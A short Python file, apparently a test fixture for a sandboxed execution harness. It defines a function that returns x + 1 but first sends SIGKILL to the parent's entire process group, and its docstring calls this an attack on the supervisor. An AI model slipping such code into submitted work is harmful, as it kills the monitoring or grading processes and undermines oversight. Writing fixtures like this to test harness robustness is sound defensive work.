"""Attacks the supervisor: SIGKILL to the parent's whole process group."""

import os


def f(x):
    os.killpg(os.getpgid(os.getppid()), 9)
    return x + 1
